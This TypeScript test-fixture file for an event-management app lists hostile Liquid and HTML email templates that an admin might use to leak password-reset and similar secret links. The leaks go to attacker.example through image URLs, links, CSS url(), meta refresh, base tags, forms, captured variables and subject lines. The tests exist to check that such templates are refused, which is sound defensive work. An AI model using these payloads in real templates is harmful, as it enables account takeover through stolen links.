import { emailTemplateInfo } from '@showdesk/domain/messaging/email-template-info';
import {
  type EmailTemplateKind,
  emailTemplateKinds,
} from '@showdesk/domain/messaging/email-templates';
import { runRenderTask } from '../../src/features/messaging/email-templates/render.ts';

/**
 * Templates an event admin could write to carry a secret link (set-password, reset, email
 * change) out of an email: to an attacker's address in an attribute, a style, a refresh, the
 * subject, or a copy made by a filter or a capture. `SECRET` stands for the kind's secret link.
 * Every one must be refused when saved, or, if it was stored anyway, leave the link nowhere but
 * the system's own button when sent (secret-links.test.ts, hostile-templates.test.ts).
 */
export const hostileBodies: readonly string[] = [
  // The variable itself, and everything a template can do with a value.
  '<a href="https://attacker.example/steal?l={{ SECRET }}">Reset</a><img src="https://attacker.example/px.gif?{{ SECRET }}">',
  '{% button SECRET %}<img src="https://attacker.example/px.gif?{{ SECRET | url_encode }}">',
  '{% button SECRET %}{{ SECRET | append: "#" }}{{ SECRET | prepend: "x" }}',
  '{% button SECRET %}{{ SECRET | slice: 0, 80 }}{{ SECRET | split: "token=" | last }}',
  '{% button SECRET %}{{ SECRET | replace: "https", "http" }}{{ SECRET | downcase }}{{ SECRET | upcase }}',
  '{% button SECRET %}{{ SECRET | escape }}{{ SECRET | escape_once }}{{ SECRET | strip }}{{ SECRET | url_decode }}',
  '{% button SECRET %}{% capture x %}{{ SECRET }}{% endcapture %}<img src="https://attacker.example/?{{ x }}">',
  '{% button SECRET %}{% assign x = SECRET %}<img src="https://attacker.example/?{{ x }}">',
  '{% button SECRET %}{% if SECRET contains "a" %}<img src="https://attacker.example/a">{% endif %}',
  '{% button SECRET %}{% for c in SECRET %}{{ c }}{% endfor %}',
  '{% button SECRET %}{% echo SECRET %}',
  '{% button SECRET %}{%- echo SECRET -%}',
  '{% button SECRET %}{% liquid echo SECRET %}',
  '{% button SECRET %}{{- SECRET -}}',
  // The button tag where its HTML would land inside an attribute, a style or other text.
  '<img src=\'https://attacker.example/px.gif?{% button SECRET "x" %}\'>',
  '<a href=\'https://attacker.example/steal?{% button SECRET "x" %}\'>Reset</a>',
  '<img srcset="https://attacker.example/a.png 1x, {% button SECRET %} 2x">',
  "<img srcset='https://attacker.example/a.png 1x, {% button SECRET %} 2x'>",
  "<div style='background:url(https://attacker.example/?{% button SECRET %})'>x</div>",
  '<style>@import url(https://attacker.example/?{% button SECRET %});</style>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/?{% button SECRET %}">',
  "<meta http-equiv='refresh' content='0;url=https://attacker.example/?{% button SECRET %}'>",
  '<!-- {% button SECRET %} -->',
  '<title>{% button SECRET %}</title>',
  '<textarea>{% button SECRET %}</textarea>',
  '<noscript>{% button SECRET %}</noscript>',
  '<xmp>{% button SECRET %}</xmp>',
  '<img alt="{% button SECRET %}',
  "<img alt='{% button SECRET %}",
  "<img src='https://attacker.example/?{%- button SECRET -%}'>",
  "{% if true %}<img src='https://attacker.example/?{% endif %}{% button SECRET %}{% if true %}'>{% endif %}",
  // Copies of the button.
  '{% capture x %}{% button SECRET %}{% endcapture %}{{ x }}{{ x }}',
  '{% capture x %}{% button SECRET %}{% endcapture %}<img src="https://attacker.example/?{{ x | url_encode }}">',
  '{% for i in (1..2) %}{% button SECRET %}{% endfor %}',
  '{% tablerow i in (1..2) %}{% button SECRET %}{% endtablerow %}',
  // No style sheet, base, refresh or form beside the button: they can read or redirect it.
  '<style>a[href*="token=a"]{background:url(https://attacker.example/a)}</style>{% button SECRET %}',
  '<link rel="stylesheet" href="https://attacker.example/x.css">{% button SECRET %}',
  '<base href="https://attacker.example/">{% button SECRET %}',
  '<meta http-equiv="refresh" content="5;url=https://attacker.example/">{% button SECRET %}',
  '<form action="https://attacker.example/"><button>Go</button></form>{% button SECRET %}',
  '<svg><style>a{background:url(https://attacker.example/)}</style></svg>{% button SECRET %}',
  // Markup HTML parsers read differently (a mail app's could move the button into an attribute).
  '<![CDATA[{% comment %}x{% endcomment %}">{% button SECRET %}',
  '<?xml version="1.0"?>{% button SECRET %}',
  // Raw blocks and escaping print Liquid as text, never the link.
  '{% raw %}{{ SECRET }}{% endraw %}{% button SECRET %}',
  '{{ "{{" }} SECRET }}{% button SECRET %}',
];

/** The two bodies above that print Liquid as text, hold no link, and so may be saved. */
export const isHarmless = (body: string) => /\{% raw %\}|\{\{ "\{\{" \}\}/.test(body);

/** Subjects that would show the link in the email log or the inbox list. */
export const hostileSubjects: readonly string[] = [
  'Reset {{ SECRET }}',
  'Reset {{ SECRET | url_encode }}',
  'Reset {% button SECRET %}',
  '{% capture x %}{{ SECRET }}{% endcapture %}{{ x }}',
];

/** The kinds that carry a secret link, with its variable. */
export const secretKinds: ReadonlyArray<{ kind: EmailTemplateKind; variable: string }> =
  emailTemplateKinds.flatMap((kind) =>
    emailTemplateInfo[kind].variables
      .filter((v) => v.type === 'secretLink')
      .map((v) => ({ kind, variable: v.name })),
  );

/** A hostile body or subject for one kind's secret link. */
export const forLink = (source: string, variable: string) => source.replaceAll('SECRET', variable);

/** The event layout the template tests render with. */
export const harbourLayout = { eventName: 'Harbour Expo', navBgColor: '#123456' };

/**
 * Sends a stored template (`subject`, `body`) of `kind` to `model`, as the outbox does with one
 * saved before the rules: the email that goes, and the default it fell back to, if any.
 */
export const sendStored = (
  kind: EmailTemplateKind,
  source: { subject: string; body: string },
  model: Record<string, unknown>,
) => runRenderTask({ op: 'send', kind, override: source, layout: harbourLayout, model });
